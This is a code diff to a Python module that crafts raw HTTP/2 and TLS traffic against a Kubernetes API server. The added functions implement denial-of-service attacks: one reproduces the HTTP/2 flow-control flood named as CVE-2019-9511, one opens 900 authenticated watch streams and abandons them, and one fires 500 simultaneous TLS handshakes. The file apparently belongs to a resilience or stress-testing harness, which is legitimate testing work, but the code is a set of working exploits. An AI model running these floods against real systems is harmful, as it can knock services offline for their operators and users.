@@ -24,6 +24,7 @@ END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW_SIZE: Final = 4
 MOST_STREAMS: Final = 900
 MOST_FRAME: Final = 16_384
+_WATCH: Final = "/api/v1/namespaces?watch=1&timeoutSeconds=30"
 _SELF_REVIEW: Final = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
 
 
@@ -112,6 +113,41 @@ def window_updates(site: Site) -> str:
     return http2(site, first, _joined(frame(WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(200_000)))
 
 
+def window_bytes(site: Site) -> str:
+    """Open streams whose answers wait for the window of the connection, and enlarge it byte by byte (CVE-2019-9511)."""
+    first = frame(SETTINGS, 0, 0) + b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, request_block()) for number in range(MOST_STREAMS)
+    )
+    return http2(site, first, _joined(frame(WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(20_000)), settled=2.0)
+
+
+def abandoned_watches(site: Site) -> str:
+    """Open 900 watches on one connection, and close it."""
+    block = request_block(path=_WATCH.encode()) + literal(b"authorization", f"Bearer {site.target.token}".encode())
+    opened = [frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(MOST_STREAMS)]
+    with connected(site, "h2") as connection:
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + b"".join(opened))
+        time.sleep(2.0)
+    return "closed"
+
+
+def handshakes(site: Site) -> str:
+    """Send the ClientHello of 500 connections at once, and leave."""
+    context = ssl._create_unverified_context()
+    with contextlib.ExitStack() as stack:
+        connections = []
+        for _ in range(500):
+            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+            with contextlib.suppress(ssl.SSLWantReadError):
+                context.wrap_bio(incoming, outgoing).do_handshake()
+            raw = stack.enter_context(socket.create_connection(site.address, TIMEOUT))
+            connections.append((raw, outgoing.read()))
+        for raw, hello in connections:
+            raw.sendall(hello)
+        answered = sum(bool(raw.recv(1 << 16)) for raw, _ in connections)
+    return f"{answered} answers"
+
+
 def priorities(site: Site) -> str:
     payload = struct.pack(">IB", 0, 16)
     parts = (frame(PRIORITY, 0, 1 + 2 * (number % 1000), payload) for number in range(200_000))
@@ -174,8 +210,6 @@ def fields(site: Site) -> str:
 
 
 # WebSockets
-
-_WATCH: Final = "/api/v1/namespaces?watch=1&timeoutSeconds=30"
 
 
 def websocket(site: Site, parts: Iterator[bytes]) -> str:
